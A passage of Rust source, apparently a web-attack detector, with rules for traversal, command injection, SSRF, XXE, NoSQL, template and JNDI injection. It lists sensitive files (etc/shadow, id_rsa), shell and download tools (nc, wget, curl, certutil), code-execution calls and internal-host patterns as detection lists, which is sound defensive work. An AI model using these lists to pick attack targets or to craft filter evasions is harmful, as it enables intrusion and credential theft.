//! The rules of each family, over a normalised (decoded, folded, lowercased) value.

use super::{AttackHit, Family};
use std::net::{Ipv4Addr, Ipv6Addr};

/// Which bytes occur in a value: one pass, then every family asks for the characters its
/// rules need before doing any work (most values have none of them).
struct Bytes([bool; 128]);

impl Bytes {
    fn of(n: &str) -> Bytes {
        let mut seen = [false; 128];
        for &c in n.as_bytes() {
            if c < 128 {
                seen[usize::from(c)] = true;
            }
        }
        Bytes(seen)
    }

    fn any(&self, set: &[u8]) -> bool {
        set.iter().any(|&c| self.0[usize::from(c)])
    }
}

/// A set of words found with one Aho-Corasick pass.
pub(super) struct Words(
    std::sync::LazyLock<Option<aho_corasick::AhoCorasick>>,
    &'static [&'static str],
);

impl Words {
    /// The first word of the set that occurs in `hay`.
    pub(super) fn find(&self, hay: &str) -> Option<&'static str> {
        let m = self.0.as_ref()?.find(hay)?;
        self.1.get(m.pattern().as_usize()).copied()
    }
}

macro_rules! words {
    ($name:ident, $list:ident) => {
        static $name: Words = Words(
            std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new($list).ok()),
            $list,
        );
    };
}

words!(SENSITIVE, SENSITIVE_PATHS);
words!(STEP_TARGET_WORDS, STEP_TARGETS);
words!(CODE, CODE_CALLS);

/// A set of words hashed with foldhash (SipHash showed up in profiles).
type WordSet = std::collections::HashSet<&'static str, foldhash::fast::FixedState>;

static COMMAND_SET: std::sync::LazyLock<WordSet> =
    std::sync::LazyLock::new(|| COMMANDS.iter().copied().collect::<WordSet>());

pub(super) fn run(n: &str, key: Option<&str>, out: &mut Vec<AttackHit>) {
    let mut hit = |family: Family, found: Option<(&'static str, String)>| {
        if let Some((rule, why)) = found {
            out.push(AttackHit { family, rule, why });
        }
    };
    let bs = Bytes::of(n);
    hit(Family::Sqli, super::sqli::detect(n));
    if bs.any(b"<(`:=&+") || n.trim_start().starts_with("on") {
        hit(Family::Xss, super::xss::detect(n));
    }
    // Traversal needs `..`, a slash, a drive, `~`, a NUL, or the junk of exotic encodings; a
    // lone dot (a JWT, a host name) does not.
    if n.contains("..") || n.contains("0x") || bs.any(b"/\\:~\0?%") || !n.is_ascii() {
        hit(Family::PathTraversal, traversal(n));
    }
    hit(Family::Cmdi, cmdi(n, &bs));
    // `http:\\host` is a URL to a browser and to WHATWG-conformant clients too.
    if n.contains("://") || n.contains(":\\") || n.contains(":/\\") {
        hit(Family::Ssrf, ssrf(n));
    }
    if bs.any(b"<") {
        hit(Family::Xxe, xxe(n));
    } else if bs.any(b"'\"") {
        hit(Family::Xxe, xpath(n));
    }
    if bs.any(b"$;'\"|&") {
        hit(Family::Nosqli, nosqli(n));
    }
    let mut is_jndi = false;
    if n.contains("${") {
        let jndi = jndi(n);
        is_jndi = jndi.is_some();
        hit(Family::Jndi, jndi);
    }
    if !is_jndi && bs.any(b"{%") {
        hit(Family::Ssti, ssti(n));
    }
    if bs.any(b"()") || n.contains("objectclass") {
        hit(Family::Ldapi, ldapi(n));
    }
    if bs.any(b"\r\n") {
        hit(Family::Crlf, crlf(n));
    }
    hit(Family::OpenRedirect, open_redirect(n, key));
}

/// Files and folders an attacker reads through traversal or inclusion.
const SENSITIVE_PATHS: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/issue",
    "etc/hosts",
    "etc/group",
    "etc/motd",
    "etc/httpd",
    "etc/apache",
    "etc/nginx",
    "etc/mysql",
    "etc/php",
    "proc/self",
    "proc/version",
    "var/log/",
    "var/www",
    "boot.ini",
    "win.ini",
    "system.ini",
    "windows/system32",
    "winnt/",
    "system32/",
    "windows/repair",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "wp-config",
    "access.log",
    "error.log",
    "access_log",
    "error_log",
    "id_rsa",
    ".ssh/",
    ".bash_history",
    "php.ini",
    "my.cnf",
    "httpd.conf",
    "apache2.conf",
    "nginx.conf",
    "usr/local/apache",
    "opt/lampp",
    "/etc/",
    "web-inf/",
    "/.env",
    ".git/config",
    "global.asa",
    "inetpub",
    "autoexec.bat",
    "config.sys",
    "/windows/",
    "/winnt/",
    "etc/issue",
    "/dev/",
    "repair/sam",
    "/root/",
    "/home/",
];

/// Parent-directory steps: runs of two or more dots followed by a separator — `/`, or whatever
/// junk a broken or exotic encoding left in its place (`..%c0%9v..`) — but not by a letter,
/// a digit or a space (`wait..ok`, `1..2`).
fn dotdot_steps(p: &str) -> usize {
    let b = p.as_bytes();
    let mut steps = 0;
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'.' {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && b[i] == b'.' {
            i += 1;
        }
        if i - start < 2 {
            continue;
        }
        let next = b.get(i).copied();
        let sep = match next {
            None => start > 0 && b[start - 1] == b'/',
            Some(c) => {
                !(c.is_ascii_alphanumeric() || c.is_ascii_whitespace() || c == b'"' || c == b'\'')
            }
        };
        steps += usize::from(sep);
    }
    steps
}

/// Targets that follow a run of repeated steps in traversal payloads.
const STEP_TARGETS: &[&str] = &[
    "etc", "boot.ini", "windows", "winnt", "win.ini", "passwd", "issue", "system32", "inetpub",
];

/// A run of one step repeated (however it is encoded, even in encodings no server decodes the
/// same way: `..%c1%pc..%c1%pc..%c1%pcetc`), then a system path: the unit that repeats.
fn repeated_steps(n: &str) -> Option<&str> {
    // Leftmost target: Aho-Corasick reports matches left to right.
    let t = STEP_TARGET_WORDS.find(n)?;
    let pos = n.find(t)?;
    let prefix = n[..pos].trim_start_matches('/');
    if prefix.len() < 4 || prefix.contains(' ') {
        return None;
    }
    let b = prefix.as_bytes();
    (2..=24.min(b.len() / 2)).find_map(|unit| {
        (b.len().is_multiple_of(unit)
            && b.chunks(unit).all(|c| c == &b[..unit])
            && !b[..unit].iter().all(u8::is_ascii_alphanumeric))
        .then(|| &prefix[..unit])
    })
}

fn traversal(n: &str) -> Option<(&'static str, String)> {
    // Literal hex (`0x2e0x2e0x2f`), NULs between dots, backslashes as slashes.
    let p: std::borrow::Cow<'_, str> = if n.contains("0x") || n.contains(['\0', '\\']) {
        n.replace("0x2e", ".")
            .replace("0x2f", "/")
            .replace("0x5c", "/")
            .chars()
            .filter(|&c| c != '\0')
            .map(|c| if c == '\\' { '/' } else { c })
            .collect::<String>()
            .into()
    } else {
        n.into()
    };
    let p = p.as_ref();
    let steps = dotdot_steps(p);
    let target = SENSITIVE.find(p);
    if let Some(unit) = repeated_steps(n) {
        return Some((
            "traversal.repeated_steps",
            format!("{:?} repeated before a system file", clip(unit)),
        ));
    }
    let spaced = p.contains(' ');
    if steps >= 2 && !spaced {
        return Some((
            "traversal.dotdot",
            format!("{steps} parent-directory steps in {}", clip(p)),
        ));
    }
    if steps == 1 && (target.is_some() || p.starts_with("../") || p.starts_with("/../")) {
        return Some((
            "traversal.dotdot_target",
            format!("parent-directory step to {}", clip(p)),
        ));
    }
    for w in [
        "php://",
        "file://",
        "zip://",
        "phar://",
        "expect://",
        "data://",
        "glob://",
        "compress.zlib://",
    ]
    .into_iter()
    .filter(|_| p.contains("://"))
    {
        if p.contains(w) {
            return Some(("lfi.wrapper", format!("stream wrapper {w}")));
        }
    }
    let absolute = p.starts_with('/')
        || p.starts_with('~')
        || p.as_bytes().get(1..3).is_some_and(|d| d == b":/")
            && p.as_bytes()[0].is_ascii_alphabetic()
        || n.contains('\0');
    if let Some(t) = target
        && absolute
    {
        return Some(("lfi.sensitive_file", format!("path to {t}")));
    }
    None
}

const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "ls",
    "cat",
    "dir",
    "ping",
    "nslookup",
    "wget",
    "curl",
    "uname",
    "echo",
    "net",
    "ipconfig",
    "ifconfig",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "cmd",
    "cmd.exe",
    "powershell",
    "reg",
    "sleep",
    "type",
    "ver",
    "systeminfo",
    "pwd",
    "ps",
    "netstat",
    "rm",
    "chmod",
    "python",
    "python3",
    "perl",
    "php",
    "ruby",
    "telnet",
    "tasklist",
    "taskkill",
    "hostname",
    "env",
    "passwd",
    "useradd",
    "nohup",
    "xterm",
    "timeout",
    "copy",
    "del",
    "find",
    "ftp",
    "tftp",
    "certutil",
    "bitsadmin",
    "wmic",
    "mshta",
    "rundll32",
    "regsvr32",
    "shutdown",
    "kill",
    "killall",
    "head",
    "tail",
    "awk",
    "sed",
    "grep",
    "touch",
    "mkdir",
    "chown",
    "crontab",
    "base64",
    "xxd",
    "dig",
    "traceroute",
    "tracert",
    "arp",
    "scp",
    "ssh",
    "sudo",
    "su",
    "eval",
    "exec",
    "system",
    "set",
    "more",
    "uptime",
    "w",
    "last",
    "who",
    "host",
    "lsof",
    "ifup",
    "mail",
    "sendmail",
    "nmap",
    "java",
    "node",
    "gcc",
    "make",
    "vi",
    "vim",
    "netsh",
    "sysinfo",
    "which",
    "whereis",
    "locate",
    "ping.exe",
    "true",
    "false",
    "id.exe",
    "cscript",
    "wscript",
    "icacls",
    "attrib",
    "schtasks",
    "at",
    "runas",
    "nbtstat",
    "route",
];

/// Commands that are an attack on their own as a whole value.
#[rustfmt::skip]
const STANDALONE: &[&str] = &[
    "whoami", "ipconfig", "ifconfig", "netstat", "systeminfo", "uname", "tasklist", "phpinfo()",
    "id", "ipconfig /all", "net user", "net view", "pwd", "dir", "sysinfo", "ls", "ls -la",
];

/// Commands whose arguments make the line unmistakable: `which gcc`, `sleep 5`, `net user x`.
fn command_with_argument(word: &str, arg: &str) -> bool {
    match word {
        "which" | "whereis" | "type" => COMMANDS.contains(&arg),
        "sleep" | "ping" => arg.parse::<u32>().is_ok() || arg.starts_with('-'),
        "net" => matches!(
            arg,
            "user" | "view" | "localgroup" | "group" | "share" | "use" | "start" | "stop"
        ),
        "netsh" => matches!(arg, "firewall" | "advfirewall" | "interface" | "wlan"),
        "reg" => matches!(arg, "add" | "query" | "delete" | "export" | "save"),
        "dir" | "cd" | "copy" | "del" => arg.len() >= 2 && arg.as_bytes()[1] == b':',
        _ => false,
    }
}

const CODE_CALLS: &[&str] = &[
    "eval(",
    "system(",
    "exec(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "getruntime().exec",
    "os.system(",
    "os.popen(",
    "subprocess.",
    "child_process",
    "assert(",
    "create_function(",
    "phpinfo(",
    "<!--#exec",
    "<!--#include",
];

/// A command word starting at `s` (after optional quotes, spaces and a path), and its end.
fn command_at(s: &str) -> Option<&str> {
    let s = s.trim_start_matches([' ', '\t', '\'', '"', '(', '{', '+']);
    let word_end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '/' | '_' | '-')))
        .unwrap_or(s.len());
    let word = &s[..word_end];
    let base = word.rsplit('/').next().unwrap_or(word);
    (!base.is_empty() && COMMAND_SET.contains(base)).then_some(word)
}

fn cmdi(n: &str, bs: &Bytes) -> Option<(&'static str, String)> {
    if !bs.any(b";|&`$\n{(<'\"")
        && !COMMAND_SET.contains(
            n.split([' ', '\t', '+'])
                .next()
                .unwrap_or("")
                .rsplit('/')
                .next()
                .unwrap_or(""),
        )
    {
        return None;
    }
    // PHP complex interpolation calling a function: `{${system(id)}}`.
    if let Some(inner) = between(n, "{${", "}")
        && inner.contains('(')
    {
        return Some(("cmdi.code_call", format!("{{${{{}}}", clip(inner))));
    }
    if let Some(call) = CODE.find(n) {
        return Some(("cmdi.code_call", format!("call to {call}")));
    }
    let b = n.as_bytes();
    for (i, &c) in b.iter().enumerate() {
        let after = match c {
            b';' | b'|' | b'&' | b'\n' | b'`' => &n[i + 1..],
            b'$' if b.get(i + 1) == Some(&b'(') => &n[i + 2..],
            _ => continue,
        };
        let after = after.trim_start_matches(['|', '&']);
        if let Some(word) = command_at(after) {
            let sep = if c == b'$' { "$(" } else { &n[i..i + 1] };
            // `a & id` needs the separator to stand apart (not inside a word like `r&d`).
            let before_ok = i == 0 || !b[i - 1].is_ascii_alphanumeric() || c != b'&';
            if before_ok {
                return Some((
                    "cmdi.separator_command",
                    format!("{sep:?} then command {word:?}"),
                ));
            }
        }
    }
    // A value that is a command followed by a separator (`id;`, `whoami|`).
    // `+` is a space in query strings: `+dir+c:+|`.
    let plus_spaced;
    let n = if !n.contains(' ') && n.contains('+') {
        plus_spaced = n.replace('+', " ");
        plus_spaced.as_str()
    } else {
        n
    };
    let bare = n.trim_matches([' ', '\'', '"', '\n', '\r', '\t']);
    if let Some(word) = command_at(bare) {
        let rest = bare[word.len()..].trim_start();
        if rest.starts_with([';', '|', '&', '`']) {
            return Some((
                "cmdi.command_separator",
                format!("command {word:?} then a separator"),
            ));
        }
        // A command line: a command with a flag or a path argument (`cat /etc/passwd`,
        // `uname -a`, `dir c:/users`).
        let arg = rest.split_whitespace().next().unwrap_or("");
        if command_with_argument(word.rsplit('/').next().unwrap_or(word), arg) {
            return Some((
                "cmdi.command_line",
                format!("command line {:?}", clip(bare)),
            ));
        }
        if arg.starts_with('-')
            || arg.starts_with('/')
            || arg.contains(":/")
            || arg.contains(":\\")
            || arg.starts_with('%')
        {
            return Some((
                "cmdi.command_line",
                format!("command line {:?}", clip(bare)),
            ));
        }
    }
    if STANDALONE.contains(&bare) {
        return Some(("cmdi.command_line", format!("command {bare:?}")));
    }
    if let Some(inner) = between(n, "`", "`")
        && !inner.trim().is_empty()
        && command_at(inner).is_some()
    {
        return Some(("cmdi.backticks", format!("`{}`", clip(inner))));
    }
    None
}

/// inet_aton: 1–4 dot-separated parts, each decimal, octal (leading 0) or hex (0x).
fn parse_ipv4_loose(host: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.is_empty() || parts.len() > 4 || parts.iter().any(|p| p.is_empty()) {
        return None;
    }
    let nums: Option<Vec<u64>> = parts
        .iter()
        .map(|p| {
            if let Some(h) = p.strip_prefix("0x") {
                if h.is_empty() {
                    Some(0)
                } else {
                    u128::from_str_radix(h, 16)
                        .ok()
                        .map(|v| (v & 0xffff_ffff_ffff_ffff) as u64)
                }
            } else if p.len() > 1 && p.starts_with('0') {
                u64::from_str_radix(p, 8).ok()
            } else {
                p.parse().ok()
            }
        })
        .collect();
    let mut nums = nums?;
    // One hex number wider than 32 bits: some URL parsers keep the low 32 (`0x41414141a9fea9fe`).
    if nums.len() == 1 && parts[0].starts_with("0x") {
        nums[0] &= 0xffff_ffff;
    }
    let (last, head) = nums.split_last()?;
    if head.iter().any(|&x| x > 255) {
        return None;
    }
    let shift = 8 * (4 - head.len() as u32);
    if shift < 32 && *last >= (1u64 << shift) {
        return None;
    }
    let mut v: u64 = 0;
    for (i, &x) in head.iter().enumerate() {
        v |= x << (24 - 8 * i as u32);
    }
    v |= last;
    u32::try_from(v).ok().map(Ipv4Addr::from)
}

fn internal_v4(ip: Ipv4Addr) -> bool {
    let [a, b, c, _] = ip.octets();
    ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || a == 0
        || (a == 100 && (64..128).contains(&b))
        || (a == 192 && b == 0 && c == 0)
}

fn internal_host(host: &str) -> Option<String> {
    let host = host.trim_end_matches('.');
    let names = [
        "localhost",
        "metadata",
        "metadata.google.internal",
        "instance-data",
        "kubernetes.default",
        "localtest.me",
        "ip6-localhost",
        "ip6-loopback",
        "rancher-metadata",
    ];
    if names.contains(&host)
        || host.ends_with(".localhost")
        || host.ends_with(".internal")
        || host.ends_with(".localtest.me")
        || host.ends_with(".localdomain")
        || host.ends_with(".svc.cluster.local")
    {
        return Some(format!("internal name {host}"));
    }
    // Wildcard-DNS names that embed an address (`127.0.0.1.nip.io`).
    for suffix in [".nip.io", ".xip.io", ".sslip.io"] {
        if let Some(inner) = host.strip_suffix(suffix)
            && let Some(ip) = parse_ipv4_loose(inner)
            && internal_v4(ip)
        {
            return Some(format!("{host} resolves to {ip}"));
        }
    }
    if let Some(v6) = host
        .strip_prefix('[')
        .and_then(|h| h.strip_suffix(']'))
        .or(host.contains(':').then_some(host))
    {
        let v6 = v6.split('%').next().unwrap_or(v6);
        if let Ok(ip) = v6.parse::<Ipv6Addr>() {
            let s = ip.segments();
            let mapped = ip
                .to_ipv4_mapped()
                .or_else(|| ip.to_ipv4())
                .filter(|_| s[0] == 0);
            if ip.is_loopback()
                || ip.is_unspecified()
                || (s[0] & 0xffc0) == 0xfe80
                || (s[0] & 0xfe00) == 0xfc00
                || mapped.is_some_and(internal_v4)
            {
                return Some(format!("internal address [{ip}]"));
            }
        }
        return None;
    }
    let read = parse_ipv4_loose(host);
    if let Some(ip) = read.filter(|&ip| internal_v4(ip)) {
        return Some(format!("internal address {ip} (written {host})"));
    }
    let ip = other_reading(host).filter(|&ip| Some(ip) != read)?;
    internal_v4(ip).then(|| {
        format!("{host} is not a valid address, but some parsers read it as internal {ip}")
    })
}

/// How lax address parsers read a dotted quad that URL parsers refuse or read otherwise:
/// leading zeros as decimal (`0010.0.0.1` as 10.0.0.1, where WHATWG reads octal 8.0.0.1 —
/// that reading is tried first), and octets over 255 wrapped (`383.0.0.1` as 127.0.0.1).
fn other_reading(host: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = host.split('.').collect();
    if parts.len() != 4
        || !parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()))
    {
        return None;
    }
    let octets: Vec<u8> = parts
        .iter()
        .map(|p| (p.parse::<u32>().unwrap_or(0) % 256) as u8)
        .collect();
    Some(Ipv4Addr::new(octets[0], octets[1], octets[2], octets[3]))
}

fn ssrf(n: &str) -> Option<(&'static str, String)> {
    for (at, _) in n.match_indices("://") {
        let scheme_start = n[..at]
            .char_indices()
            .rfind(|&(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &n[scheme_start..at];
        // (`ldap://` inside `${jndi:…}` is the JNDI family's.)
        let jndi = scheme == "ldap" && n.contains("${");
        if !jndi
            && matches!(
                scheme,
                "gopher" | "dict" | "tftp" | "ldap" | "netdoc" | "jar" | "sftp"
            )
        {
            return Some(("ssrf.scheme", format!("{scheme}:// URL")));
        }
        if !matches!(scheme, "http" | "https" | "ftp" | "ws" | "wss") {
            continue;
        }
        let rest = &n[at + 3..];
        let authority = &rest[..rest
            .find(['/', '?', '#', ' ', '"', '\'', '\\'])
            .unwrap_or(rest.len())];
        let hostport = authority.rsplit('@').next().unwrap_or(authority);
        let host = if hostport.starts_with('[') {
            &hostport[..hostport.find(']').map_or(hostport.len(), |i| i + 1)]
        } else {
            let h = hostport.split(':').next().unwrap_or(hostport);
            // Junk after the host (`127.0.0.1!/`) does not change where the request goes.
            &h[..h
                .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
                .unwrap_or(h.len())]
        };
        if let Some(why) = internal_host(host) {
            return Some(("ssrf.internal_host", format!("{scheme} URL to {why}")));
        }
    }
    whatwg_internal(n)
}

/// The URLs in `n` as a browser or a WHATWG-conformant client parses them (the `url` crate):
/// percent-encoded and IDNA-mapped hosts (`%31%32%37.0.0.1`, `①②⑦.⓪.⓪.①`), backslashes
/// for slashes, tabs and newlines dropped — every IP literal normalised — then checked.
fn whatwg_internal(n: &str) -> Option<(&'static str, String)> {
    const SPECIAL: &[&str] = &["http", "https", "ftp", "ws", "wss"];
    for (colon, _) in n.match_indices(':') {
        let Some(scheme) = SPECIAL.iter().find(|s| n[..colon].ends_with(**s)) else {
            continue;
        };
        let at = colon - scheme.len();
        let before_ok = n[..at]
            .chars()
            .next_back()
            .is_none_or(|c| !c.is_ascii_alphanumeric());
        let after = &n[colon + 1..];
        if !before_ok || !after.starts_with(['/', '\\']) {
            continue;
        }
        let end = after
            .find([' ', '"', '\'', '<', '>', '`', ')'])
            .map_or(n.len(), |e| colon + 1 + e);
        // The literal reading in `ssrf` already checked a plain host; WHATWG would agree.
        if plain_authority(&n[colon + 1..end]) {
            continue;
        }
        let Ok(url) = url::Url::parse(&n[at..end]) else {
            continue;
        };
        let host = match url.host() {
            Some(url::Host::Ipv4(ip)) => ip.to_string(),
            Some(url::Host::Ipv6(ip)) => format!("[{ip}]"),
            Some(url::Host::Domain(d)) => d.to_owned(),
            None => continue,
        };
        if let Some(why) = internal_host(&host) {
            let raw = &n[at..end];
            return Some((
                "ssrf.internal_host",
                format!("{raw} parses (WHATWG) to {why}"),
            ));
        }
    }
    None
}

/// `//host[:port]…` whose host a WHATWG parser hands back unchanged: lowercase letters,
/// digits, dots and hyphens, no punycode, and a last label starting with a letter (so not
/// one an IPv4 parser reads: `2130706433`, `0x7f.1`). Most URLs in traffic (`Referer`,
/// `Origin`, links) are such, and parsing each cost more than the rest of the detector.
fn plain_authority(after_colon: &str) -> bool {
    let Some(rest) = after_colon.strip_prefix("//") else {
        return false;
    };
    let authority = &rest[..rest.find(['/', '?', '#']).unwrap_or(rest.len())];
    let (host, port) = authority.split_once(':').unwrap_or((authority, ""));
    let host_ok = !host.is_empty()
        && host
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'-')
        && !host.contains("xn--")
        && host
            .rsplit('.')
            .next()
            .and_then(|last| last.bytes().next())
            .is_some_and(|b| b.is_ascii_lowercase());
    host_ok && port.bytes().all(|b| b.is_ascii_digit())
}

fn xxe(n: &str) -> Option<(&'static str, String)> {
    if let Some(found) = dtd(n) {
        return Some(found);
    }
    if n.contains("xi:include") || n.contains("xmlns:xi=") {
        return Some(("xxe.xinclude", "XInclude".into()));
    }
    xml_injection(n)
}

/// The DOCTYPE and entity declarations of `n`, read as an XML parser reads them (any
/// whitespace between tokens): an external DTD (`<!DOCTYPE x SYSTEM "http://…">`), entities
/// declared with an external identifier, parameter entities, or entities at all inside a
/// DOCTYPE (expansion bombs).
fn dtd(n: &str) -> Option<(&'static str, String)> {
    let words = |at: usize| {
        n[at..]
            .split(|c: char| c.is_whitespace() || c == '[' || c == '>')
            .filter(|w| !w.is_empty())
    };
    if let Some(at) = n.find("<!doctype") {
        // `<!doctype NAME SYSTEM|PUBLIC …`: the document names a DTD to fetch.
        let mut w = words(at + "<!doctype".len());
        let (_name, id) = (w.next(), w.next());
        if let Some(id @ ("system" | "public")) = id {
            return Some((
                "xxe.external_dtd",
                format!("DOCTYPE with a {} DTD to fetch", id.to_uppercase()),
            ));
        }
    }
    let mut declared = 0;
    for (at, _) in n.match_indices("<!entity") {
        declared += 1;
        let mut w = words(at + "<!entity".len());
        let first = w.next().unwrap_or("");
        let parameter = first == "%" || (first.starts_with('%') && first.len() > 1);
        // After the name (`x`, or `% p`: the `%` and then the name).
        let mut rest = w.skip(usize::from(first == "%"));
        if let Some(id @ ("system" | "public")) = rest.next() {
            return Some((
                "xxe.external_entity",
                format!("entity declared with {}", id.to_uppercase()),
            ));
        }
        if parameter {
            return Some(("xxe.parameter_entity", "a parameter entity".into()));
        }
    }
    (declared > 0 && n.contains("<!doctype")).then(|| {
        (
            "xxe.entity_declaration",
            "DOCTYPE declaring entities".into(),
        )
    })
}

/// XML injection beyond entities: what a value does to the XML processor that reads it.
fn xml_injection(n: &str) -> Option<(&'static str, String)> {
    const XSLT_REACH: &[&str] = &[
        "document(",
        "php:function",
        "unparsed-text",
        "system-property(",
        "<xsl:include",
        "<xsl:import",
    ];
    if n.contains("<xsl:") && XSLT_REACH.iter().any(|f| n.contains(f)) {
        return Some((
            "xxe.xslt",
            "XSLT that reads files or calls functions".into(),
        ));
    }
    // Markup split across CDATA sections (`<![CDATA[<]]>script`) to slip past filters.
    if n.matches("<![cdata[").count() >= 2
        && (n.contains("<![cdata[<]]>") || n.contains("<![cdata[>]]>"))
    {
        return Some((
            "xxe.cdata_split",
            "markup split across CDATA sections".into(),
        ));
    }
    if let Some(name) = undeclared_entity(n) {
        return Some((
            "xxe.entity_reference",
            format!("XML uses entity &{name}; declared elsewhere (an external DTD)"),
        ));
    }
    if let Some(at) = n.find("<xml") {
        let attrs = &n[at + 4..n[at..].find('>').map_or(n.len(), |e| at + e)];
        if attrs.starts_with(char::is_whitespace)
            && (attrs.contains("src=") || attrs.contains("id="))
        {
            return Some((
                "xxe.data_island",
                "an XML data island loading or naming data".into(),
            ));
        }
    }
    if n.contains("<?import") && n.contains("implementation=") {
        return Some((
            "xxe.behavior_import",
            "imports a behavior (HTC) namespace".into(),
        ));
    }
    if n.contains("<methodname>pingback.ping</methodname>") {
        return Some((
            "xxe.xmlrpc_pingback",
            "XML-RPC pingback: the server fetches a URL".into(),
        ));
    }
    None
}

/// XPath injection: a quote breakout that goes on to test the document's nodes.
fn xpath(n: &str) -> Option<(&'static str, String)> {
    const NODE_TESTS: &[&str] = &[
        "name()",
        "text()",
        "position()",
        "count(/",
        "string-length(",
        "local-name(",
    ];
    let breakout = ["' or ", "\" or ", "' and ", "\" and "]
        .iter()
        .any(|b| n.contains(b));
    (breakout && NODE_TESTS.iter().any(|f| n.contains(f))).then(|| {
        (
            "xxe.xpath",
            "breaks out of an XPath string and tests the document's nodes".into(),
        )
    })
}

/// An entity reference in XML markup that neither XML nor HTML predefines (`&systemEntity;`):
/// it only resolves through a DTD the attacker supplies.
fn undeclared_entity(n: &str) -> Option<&str> {
    const KNOWN: &[&str] = &[
        "lt", "gt", "amp", "quot", "apos", "nbsp", "copy", "reg", "trade", "hellip", "mdash",
        "ndash", "laquo", "raquo", "euro", "pound", "yen", "cent", "sect", "deg", "plusmn",
        "times", "divide", "middot", "bull", "lsquo", "rsquo", "ldquo", "rdquo", "shy", "para",
    ];
    let markup = n.contains("</") || n.contains("/>");
    if !markup {
        return None;
    }
    let mut rest = n;
    while let Some(i) = rest.find('&') {
        let after = &rest[i + 1..];
        let len = after
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-' || *b == b'.')
            .count();
        let name = &after[..len];
        let is_entity = len >= 2 && after[len..].starts_with(';') && !name.starts_with('#');
        if is_entity && name.as_bytes()[0].is_ascii_alphabetic() && !KNOWN.contains(&name) {
            return Some(name);
        }
        rest = &after[len..];
    }
    None
}

const MONGO_OPERATORS: &[&str] = &[
    "ne",
    "eq",
    "gt",
    "gte",
    "lt",
    "lte",
    "in",
    "nin",
    "regex",
    "where",
    "or",
    "and",
    "not",
    "nor",
    "exists",
    "expr",
    "function",
    "elemmatch",
    "all",
    "size",
    "type",
    "mod",
    "text",
    "comment",
    "accumulator",
];

fn nosqli(n: &str) -> Option<(&'static str, String)> {
    let b = n.as_bytes();
    for (i, _) in n.match_indices('$') {
        let before_ok = i == 0
            || matches!(
                b[i - 1],
                b'[' | b'{' | b',' | b'\'' | b'"' | b' ' | b'(' | b'\t'
            );
        if !before_ok {
            continue;
        }
        let word_end = n[i + 1..]
            .find(|c: char| !c.is_ascii_alphanumeric())
            .map_or(n.len(), |k| i + 1 + k);
        let word = &n[i + 1..word_end];
        let after = b.get(word_end).copied().unwrap_or(b' ');
        if MONGO_OPERATORS.contains(&word)
            && matches!(after, b']' | b':' | b'"' | b'\'' | b' ' | b'=')
        {
            return Some(("nosqli.operator", format!("query operator ${word}")));
        }
    }
    for js in [
        "this.",
        "return true",
        "return 1",
        "sleep(",
        "db.",
        "tojson(",
        "function(",
    ] {
        if let Some(at) = n.find(js) {
            let before = n[..at].trim_end();
            if before.ends_with([';', '\'', '"', '|', '&'])
                || before.ends_with("||")
                || before.is_empty() && js.starts_with("return")
            {
                return Some((
                    "nosqli.javascript",
                    format!("server-side JavaScript {js:?}"),
                ));
            }
        }
    }
    None
}

fn between<'a>(n: &'a str, open: &str, close: &str) -> Option<&'a str> {
    let s = n.find(open)? + open.len();
    let e = n[s..].find(close)? + s;
    Some(&n[s..e])
}

fn ssti(n: &str) -> Option<(&'static str, String)> {
    let expr_like = |inner: &str| {
        let inner = inner.trim();
        !inner.is_empty()
            && (inner.contains(['.', '(', '[', '*', '+', '|', '_', '%', '\'', '"'])
                || [
                    "config", "self", "request", "settings", "session", "class", "7*7",
                ]
                .iter()
                .any(|w| inner.contains(w)))
    };
    if let Some(inner) = between(n, "{{", "}}")
        && expr_like(inner)
    {
        return Some(("ssti.double_curly", format!("{{{{{}}}}}", clip(inner))));
    }
    if let Some(inner) = between(n, "{%", "%}")
        && !inner.trim().is_empty()
    {
        return Some(("ssti.statement", format!("{{%{}%}}", clip(inner))));
    }
    for (open, rule) in [
        ("${", "ssti.dollar"),
        ("#{", "ssti.hash"),
        ("*{", "ssti.star"),
        ("@{", "ssti.at"),
    ] {
        if let Some(inner) = between(n, open, "}")
            && expr_like(inner)
            && inner.contains(['.', '(', '*'])
        {
            return Some((rule, format!("{open}{}}}", clip(inner))));
        }
    }
    if let Some(inner) = between(n, "<%", "%>") {
        return Some(("ssti.erb", format!("<%{}%>", clip(inner))));
    }
    None
}

fn jndi(n: &str) -> Option<(&'static str, String)> {
    if !n.contains("${") {
        return None;
    }
    // Resolve the lookups used to hide `jndi` (`${lower:j}`, `${::-n}`, `${env:x:-d}`).
    let mut s = n.to_owned();
    for _ in 0..8 {
        let Some(start) = s.find("${") else { break };
        let Some(len) = s[start + 2..].find(['}', '$']) else {
            break;
        };
        let inner = &s[start + 2..start + 2 + len];
        if s.as_bytes().get(start + 2 + len) == Some(&b'$') {
            // Nested: resolve the innermost first.
            let Some(inner_start) = s[start + 2..].find("${").map(|k| start + 2 + k) else {
                break;
            };
            let Some(close) = s[inner_start..].find('}').map(|k| inner_start + k) else {
                break;
            };
            let resolved = resolve_lookup(&s[inner_start + 2..close]);
            s.replace_range(inner_start..=close, &resolved);
            continue;
        }
        if inner.starts_with("jndi:") {
            break;
        }
        let resolved = resolve_lookup(inner);
        if resolved == inner {
            break;
        }
        s.replace_range(start..start + 3 + len, &resolved);
    }
    let at = s.find("jndi:")?;
    let proto = &s[at + 5..];
    [
